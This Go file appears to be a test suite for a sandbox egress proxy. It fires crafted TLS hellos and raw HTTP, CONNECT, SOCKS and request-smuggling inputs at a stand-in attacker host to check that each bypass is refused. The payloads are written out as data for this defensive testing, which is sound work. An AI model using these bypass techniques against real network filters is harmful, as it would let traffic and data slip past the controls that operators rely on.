package egress

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/atoll-sh/atoll/engine/network"
)

// hello returns a TLS client's hello for a name, in one record.
func hello(name string, protos ...string) []byte {
	return helloOf(&tls.Config{ServerName: name, InsecureSkipVerify: true, NextProtos: protos}) //nolint:gosec // never finished
}

func helloOf(config *tls.Config) []byte {
	a, b := net.Pipe()
	go func() {
		_ = tls.Client(a, config).Handshake()
		a.Close()
	}()
	defer b.Close()
	head := make([]byte, 5)
	if _, err := io.ReadFull(b, head); err != nil {
		return nil
	}
	body := make([]byte, binary.BigEndian.Uint16(head[3:]))
	if _, err := io.ReadFull(b, body); err != nil {
		return nil
	}
	return append(head, body...)
}

// encrypted returns a hello whose name inside is encrypted with a key of the
// host outside.
func encrypted(outside, inside string) []byte {
	return helloOf(&tls.Config{ServerName: inside, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: echKeys(outside)})
}

// echKeys is what a host publishes so that hellos can be encrypted for it, as
// RFC 9849 has it.
func echKeys(outside string) []byte {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return nil
	}
	public := key.PublicKey().Bytes()
	body := append([]byte{1, 0, 0x20, 0, byte(len(public))}, public...)
	body = append(body, 0, 4, 0, 1, 0, 1, 32, byte(len(outside))) // HKDF-SHA256 with AES-128-GCM
	body = append(append(body, outside...), 0, 0)
	config := append([]byte{0xfe, 0x0d, 0, byte(len(body))}, body...)
	return append([]byte{0, byte(len(config))}, config...)
}

// inRecords puts a handshake into records of size bytes.
func inRecords(h []byte, size int) (out []byte) {
	for body := h[5:]; len(body) > 0; {
		n := min(size, len(body))
		out = append(binary.BigEndian.AppendUint16(append(out, 22, 3, 1), uint16(n)), body[:n]...)
		body = body[n:]
	}
	return out
}

// says sends bytes and returns an error when a TLS or HTTP server answers
// that is not the proxy refusing.
func (f *field) says(s network.Slot, address string, parts ...[]byte) error {
	c, err := connect(s, "tcp", address, wait)
	if err != nil {
		return nil
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(wait))
	for _, p := range parts {
		if _, err := c.Write(p); err != nil {
			return nil
		}
	}
	_ = c.(*net.TCPConn).CloseWrite()
	b, _ := io.ReadAll(io.LimitReader(c, 4096))
	switch {
	case len(b) == 0 || b[0] == 21: // nothing, or an alert
		return nil
	case len(b) > 9 && bytes.HasPrefix(b, []byte("HTTP/1.")) && (b[9] == '4' || b[9] == '5'):
		return nil
	}
	return fmt.Errorf("%s answered %.60q", address, b)
}

// tlsTo says hello for a name at addresses where it must lead nowhere.
func tlsTo(hellos ...[]byte) func(*field, string) error {
	return func(f *field, _ string) error {
		for _, h := range hellos {
			for _, a := range []string{evil4 + ":443", good4 + ":443", "[" + evil6 + "]:443"} {
				if err := f.says(f.name, a, h); err != nil {
					return err
				}
			}
		}
		return nil
	}
}

func renamed(h []byte, from, to string) []byte { return bytes.ReplaceAll(h, []byte(from), []byte(to)) }

func tlsAttacks() []attack {
	evil := func() []byte { return hello("evil.example") }
	split := func(count int) func(*field, string) error {
		return func(f *field, _ string) error {
			h := evil()
			var parts [][]byte
			for size := len(h)/count + 1; len(h) > 0; {
				n := min(size, len(h))
				parts, h = append(parts, h[:n]), h[n:]
			}
			return errors.Join(f.says(f.name, evil4+":443", parts...), f.says(f.name, good4+":443", parts...))
		}
	}
	return []attack{
		{"tls", "allowed-name-foreign-address", "an allowed name in the hello, sent to the attacker's address: only the name's own host may see it", func(f *field, _ string) error {
			for _, a := range []string{evil4 + ":443", "[" + evil6 + "]:443", "192.88.99.7:443", "8.8.8.8:443"} {
				if got, err := get(f.name, "good.example", a); err == nil && !strings.Contains(got, "good served") {
					return fmt.Errorf("%s: %q", a, got)
				}
			}
			return nil
		}},
		{"tls", "foreign-name-allowed-address", "a foreign name at the address of an allowed one", tlsTo(evil())},
		{"tls", "no-name", "a hello without a name", tlsTo(hello(""))},
		{"tls", "empty-name", "a hello with an empty name", tlsTo(withExtension0(hello("a.b")))},
		{"tls", "address-as-name", "an address where the name should be", tlsTo(renamed(hello("evil.example"), "evil.example", "203.0.113.99"), renamed(hello("abcdefghij"), "abcdefghij", "3405803785"))},
		{"tls", "zero-byte", "a zero byte between an allowed and a foreign name", tlsTo(renamed(hello("good.examplex.evil.example"), "examplex", "example\x00"))},
		{"tls", "dots", "a dot behind the name, or an empty label in it", tlsTo(renamed(hello("good.examplex"), "examplex", "example."), renamed(hello("evil.examplex"), "examplex", "example."), renamed(hello("xgood.example"), "xgood", ".good"))},
		{"tls", "two-names", "two names in one hello", tlsTo(twoNames("good.example", "evil.example"), twoNames("evil.example", "good.example"))},
		{"tls", "suffix", "a name that ends or begins as an allowed one", tlsTo(hello("xgood.example"), hello("good.example.evil.example"), hello("evilcdn.example"))},
		{"tls", "encrypted-hello", "a hello whose true name is encrypted", func(f *field, _ string) error {
			return f.says(f.name, good4+":443", withExtension(f.t, "good.example", extensionECH))
		}},
		{"tls", "encrypted-hello-with-keys", "a foreign name encrypted with keys that came another way, behind an allowed one, to the addresses of both", func(f *field, _ string) error {
			for _, a := range []string{good4, evil4} {
				for _, b := range [][]byte{encrypted("good.example", "evil.example"), encrypted("evil.example", "good.example")} {
					if err := f.says(f.name, a+":443", b); err != nil {
						return err
					}
				}
			}
			return nil
		}},
		{"tls", "in-2-segments", "a foreign name, the hello in 2 segments", split(2)},
		{"tls", "in-7-segments", "a foreign name, the hello in 7 segments", split(7)},
		{"tls", "in-50-segments", "a foreign name, the hello in 50 segments", split(50)},
		{"tls", "out-of-order", "a foreign name, the later half of the hello first; an allowed one in the same way shows that it is understood", func(f *field, _ string) error {
			if err := f.outOfOrder(evil()); err != nil {
				return err
			}
			if err := f.outOfOrder(hello("good.example")); err != nil {
				return err
			}
			for end := time.Now().Add(wait); f.ears[0].heard(func(b []byte) bool { return bytes.Contains(b, []byte("good.example")) }) == nil; time.Sleep(time.Millisecond) {
				if time.Now().After(end) {
					return errors.New("the allowed hello did not arrive, so nothing is proven")
				}
			}
			return nil
		}},
		{"tls", "over-records", "a foreign name over the borders of records of 1, 3 and 50 bytes", func(f *field, _ string) error {
			h := evil()
			for _, n := range []int{1, 3, 50} {
				if err := f.says(f.name, evil4+":443", inRecords(h, n)); err != nil {
					return err
				}
			}
			return nil
		}},
		{"tls", "two-hellos", "an allowed hello with a foreign one behind it: the second may only reach the first one's host", func(f *field, _ string) error {
			c, err := connect(f.name, "tcp", evil4+":443", wait)
			if err != nil {
				return nil
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(wait))
			_, _ = c.Write(append(hello("good.example"), hello("evil.example")...))
			_, _ = c.Read(make([]byte, 100))
			return nil
		}},
		{"tls", "urgent-byte", "a hello with an urgent byte in the middle of the name", func(f *field, _ string) error {
			c, err := connect(f.name, "tcp", evil4+":443", wait)
			if err != nil {
				return nil
			}
			defer c.Close()
			h := hello("evil.example")
			at := bytes.Index(h, []byte("evil"))
			_, _ = c.Write(h[:at])
			raw, err := c.(*net.TCPConn).SyscallConn()
			if err != nil {
				return err
			}
			_ = raw.Control(func(fd uintptr) { _ = unix.Sendto(int(fd), []byte("g"), unix.MSG_OOB, nil) })
			_ = c.SetDeadline(time.Now().Add(wait))
			_, _ = c.Write(h[at:])
			_ = c.(*net.TCPConn).CloseWrite()
			if b, _ := io.ReadAll(io.LimitReader(c, 100)); len(b) > 0 && b[0] != 21 {
				return fmt.Errorf("answered %x", b)
			}
			return nil
		}},
		{"tls", "no-tls", "other protocols on port 443: plain HTTP, SSH, SOCKS, an old hello, nothing for long", func(f *field, mark string) error {
			for _, p := range []string{"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n", "SSH-2.0-" + mark + "\r\n", "\x05\x01\x00", "\x80\x2e\x01\x00\x02" + mark, "CONNECT evil.example:443 HTTP/1.1\r\n\r\n", mark} {
				for _, a := range []string{evil4, good4} {
					if err := f.says(f.name, a+":443", []byte(p)); err != nil {
						return err
					}
				}
			}
			return nil
		}},
		{"tls", "huge-hello", "a hello that never ends", func(f *field, _ string) error {
			h := hello("evil.example")
			big := append([]byte{22, 3, 1, 0x40, 0, 1, 0, 0xff, 0xff}, bytes.Repeat(h[9:], 400)...)
			return f.says(f.name, evil4+":443", big)
		}},
		{"tls", "list-policy", "an allowed name under a policy of networks does not open the attacker's address", func(f *field, mark string) error {
			return f.reaches(f.list, "tcp", evil4+":443", string(hello("good.example")))
		}},
		{"tls", "fronting", "a foreign host in a request within the TLS of an allowed one: only the allowed name's host may see it", func(f *field, _ string) error {
			got, err := inside(f.name, "good.example", "evil.example")
			if err == nil && !strings.Contains(got, "good served") {
				return fmt.Errorf("%q", got)
			}
			return nil
		}},
		{"tls", "relayed-connect", "CONNECT to a foreign host within the TLS of an allowed one, which is no relay", func(f *field, mark string) error {
			c, err := connect(f.name, "tcp", good4+":443", wait)
			if err != nil {
				return err
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(wait))
			k := tls.Client(c, &tls.Config{ServerName: "good.example", InsecureSkipVerify: true}) //nolint:gosec // the test's own certificate
			fmt.Fprintf(k, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n%s", mark)
			_, _ = k.Read(make([]byte, 100))
			return nil
		}},
		{"tls", "coalescing", "requests for a second host over the HTTP/2 connection of an allowed one stay with the first one's host", func(f *field, _ string) error {
			tr := &http.Transport{
				ForceAttemptHTTP2: true,
				TLSClientConfig:   &tls.Config{ServerName: "good.example", InsecureSkipVerify: true}, //nolint:gosec // the test's own certificate
				DialContext: func(context.Context, string, string) (net.Conn, error) {
					return connect(f.name, "tcp", evil4+":443", wait)
				},
			}
			defer tr.CloseIdleConnections()
			for _, host := range []string{"good.example", "evil.example"} {
				req, err := http.NewRequest("GET", "https://good.example/x", nil)
				if err != nil {
					return err
				}
				req.Host = host
				res, err := (&http.Client{Transport: tr, Timeout: wait}).Do(req)
				if err != nil {
					return err
				}
				b, _ := io.ReadAll(res.Body)
				res.Body.Close()
				if res.ProtoMajor != 2 || !strings.HasPrefix(string(b), "good served") {
					return fmt.Errorf("%s over %s: %q", host, res.Proto, b)
				}
			}
			return nil
		}},
		{"quic", "initial", "QUIC to allowed and foreign addresses under a policy of names", func(f *field, mark string) error {
			packet := "\xc3\x00\x00\x00\x01\x08" + mark + strings.Repeat("\x00", 1200)
			return f.send(f.name, udp4(f.name, evil4, 443, packet), udp4(f.name, good4, 443, packet), udp6(f.name, good6, 443, packet), udp4(f.name, evil4, 80, packet))
		}},
	}
}

// outOfOrder makes a connection to the attacker's web server and sends text in
// two segments, the later one first, past the sandbox's kernel.
func (f *field) outOfOrder(text []byte) error {
	c, err := connect(f.name, "tcp", evil4+":443", wait)
	if err != nil {
		return err
	}
	defer c.Close()
	seq, ack, err := numbers(c)
	if err != nil {
		return err
	}
	from, half := uint16(c.LocalAddr().(*net.TCPAddr).Port), len(text)/2
	part := func(at int, b []byte) []byte {
		return ip4(f.name, evil4, unix.IPPROTO_TCP, segment(f.name.Addr4, addr(evil4), from, 443, seq+uint32(at), ack, flagACK|flagPSH, string(b)))
	}
	if err := f.send(f.name, part(half, text[half:]), part(0, text[:half])); err != nil {
		return err
	}
	time.Sleep(patience / 4) // for whatever comes of it
	return nil
}

// inside asks for a host within the TLS connection of another.
func inside(s network.Slot, name, host string) (string, error) {
	c, err := connect(s, "tcp", evil4+":443", wait)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(wait))
	k := tls.Client(c, &tls.Config{ServerName: name, InsecureSkipVerify: true}) //nolint:gosec // the test's own certificate
	fmt.Fprintf(k, "GET /x HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host)
	return body(k)
}

// withExtension0 empties the only name of a hello that is 3 bytes long.
func withExtension0(h []byte) []byte {
	at := bytes.Index(h, []byte("a.b"))
	if at < 5 {
		return h
	}
	binary.BigEndian.PutUint16(h[at-2:], 0)
	return h
}

// twoNames makes a hello whose list of names has two.
func twoNames(a, b string) []byte {
	h := hello(a)
	at := bytes.Index(h, []byte(a)) // behind: extension length, list length, type, name length
	more := append([]byte{0, 0, byte(len(b))}, b...)
	out := append([]byte{}, h[:at+len(a)]...)
	out = append(append(out, more...), h[at+len(a):]...)
	grow := func(i int) { binary.BigEndian.PutUint16(out[i:], binary.BigEndian.Uint16(out[i:])+uint16(len(more))) }
	grow(at - 5)
	grow(at - 7)
	grow(3)
	grow(7) // the lower two bytes of the handshake's length
	i := 5 + 4 + 2 + 32
	i += 1 + int(out[i])
	i += 2 + int(binary.BigEndian.Uint16(out[i:]))
	i += 1 + int(out[i])
	grow(i)
	return out
}

// requests sends raw HTTP requests to port 80; only refusals may come back.
func requests(texts ...string) func(*field, string) error {
	return func(f *field, mark string) error {
		for _, t := range texts {
			for _, a := range []string{evil4 + ":80", good4 + ":80"} {
				if err := f.says(f.name, a, []byte(strings.ReplaceAll(t, "MARK", mark))); err != nil {
					return fmt.Errorf("%.40q: %w", t, err)
				}
			}
		}
		return nil
	}
}

func httpAttacks() []attack {
	host := func(h string) string { return "GET /MARK HTTP/1.1\r\nHost: " + h + "\r\n\r\n" }
	return []attack{
		{"http", "foreign-host", "a foreign host at an allowed address", requests(host("evil.example"), host("EVIL.example"), host("evil.example."))},
		{"http", "two-hosts", "two Host headers, in both orders", requests("GET /MARK HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n", "GET /MARK HTTP/1.1\r\nHost: evil.example\r\nHost: good.example\r\n\r\n")},
		{"http", "no-host", "no Host header, an empty one, or HTTP/1.0", requests("GET /MARK HTTP/1.1\r\n\r\n", host(""), "GET /MARK HTTP/1.0\r\n\r\n", "GET /MARK\r\n")},
		{"http", "absolute-address", "the request line names another host", requests("GET http://evil.example/MARK HTTP/1.1\r\nHost: good.example\r\n\r\n", "GET //evil.example/MARK HTTP/1.1\r\nHost: evil.example\r\n\r\n", "GET https://evil.example/MARK HTTP/1.1\r\nHost: good.example\r\n\r\n", "GET ftp://evil.example/MARK HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"http", "user-information", "an allowed host as the user of a foreign one", requests("GET http://good.example@evil.example/MARK HTTP/1.1\r\nHost: good.example\r\n\r\n", host("good.example@evil.example"), host("evil.example#@good.example"), host("good.example:80@evil.example"))},
		{"http", "zero-byte", "a zero byte in the host", requests(host("good.example\x00.evil.example"), host("evil.example\x00good.example"))},
		{"http", "line-ends", "carriage returns and line feeds where some parsers see a new header", requests("GET /MARK HTTP/1.1\r\nHost: good.example\rHost: evil.example\r\n\r\n", "GET /MARK HTTP/1.1\r\nHost: evil.example\r\n X: good.example\r\n\r\n", "GET /MARK HTTP/1.1\r\nHost : good.example\r\n\r\n", "GET /MARK HTTP/1.1\r\n Host: good.example\r\nHost: evil.example\r\n\r\n", "GET /MARK\rHTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{"http", "ports", "other ports in the host", requests(host("good.example:22"), host("good.example:443"), host("good.example:"), host("good.example:80:80"), host("evil.example:80"), host("good.example:080"))},
		{"http", "addresses", "addresses in every spelling in the host", requests(host(evil4), host("["+evil6+"]"), host("3405803785"), host("0xcb007109"), host("0313.0.0161.011"), host("[::ffff:203.0.113.9]"), host("203.0.113.9."))},
		{"http", "unicode", "letters that look alike, and dots that are none", requests(host("gооd.example"), host("good\u3002evil\u3002example"), host("xn--gd-tmcd.example"), host("good.example\u00ad.evil.example"))},
		{"http", "connect", "CONNECT to allowed and foreign hosts", requests("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\nMARK", "CONNECT good.example:443 HTTP/1.1\r\nHost: good.example:443\r\n\r\nMARK", "CONNECT good.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\nMARK")},
		{"http", "socks", "SOCKS where HTTP is expected", requests("\x04\x01\x00\x50\xcb\x00\x71\x09MARK\x00", "\x05\x01\x00", "\x05\x01\x00\x03\x0cevil.example\x01\xbbMARK")},
		{"http", "long-hosts", "CONNECT and SOCKS with a zero byte in the host, and hosts of 256 bytes and more", requests(
			"CONNECT good.example\x00.evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\nMARK",
			"CONNECT "+strings.Repeat("a.", 140)+"good.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\nMARK",
			"\x05\x01\x00\x05\x01\x00\x03\x1bgood.example\x00.evil.exampleX\x01\xbbMARK", "\x05\x01\x00\x05\x01\x00\x03\xff"+strings.Repeat("a", 255)+"\x01\xbbMARK",
			"\x04\x01\x01\xbb\x00\x00\x00\x01user\x00"+strings.Repeat("a.", 140)+"evil.example\x00MARK",
			host(strings.Repeat("a.", 140)+"good.example"), host(strings.Repeat("a", 256)+".good.example"), host(strings.Repeat("a", 300)))},
		{"http", "h2c", "HTTP/2 without TLS, with an authority of its own", requests("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK", "GET /MARK HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n")},
		{"http", "smuggling", "a foreign request hidden in the body of an allowed one must not reach anybody as a request of its own", func(f *field, mark string) error {
			for _, t := range []string{
				"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n",
				"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n",
				"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n",
			} {
				c, err := connect(f.name, "tcp", good4+":80", wait)
				if err != nil {
					continue
				}
				_ = c.SetDeadline(time.Now().Add(wait))
				fmt.Fprintf(c, t, mark)
				_ = c.(*net.TCPConn).CloseWrite()
				b, _ := io.ReadAll(c)
				c.Close()
				if bytes.Contains(b, []byte("served evil.example")) {
					return fmt.Errorf("%q", b)
				}
			}
			return nil
		}},
		{"http", "second-request", "a foreign host in the second request of an allowed connection", func(f *field, mark string) error {
			c, err := connect(f.name, "tcp", good4+":80", wait)
			if err != nil {
				return nil
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(wait))
			fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: good.example\r\n\r\nGET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", mark)
			r := bufio.NewReader(c)
			for want := range []int{http.StatusOK, http.StatusForbidden} {
				res, err := http.ReadResponse(r, nil)
				if err != nil {
					return nil
				}
				_, _ = io.Copy(io.Discard, res.Body)
				if want == 1 && res.StatusCode == http.StatusOK {
					return errors.New("it was served")
				}
			}
			return nil
		}},
		{"http", "allowed-name-foreign-address", "an allowed host, sent to the attacker's address: only the name's own host may see it", func(f *field, _ string) error {
			for _, a := range []string{evil4 + ":80", "[" + evil6 + "]:80"} {
				if got, err := plain(f.name, a, "GET /y HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n"); err == nil && !strings.Contains(got, "good served") {
					return fmt.Errorf("%s: %q", a, got)
				}
			}
			return nil
		}},
	}
}
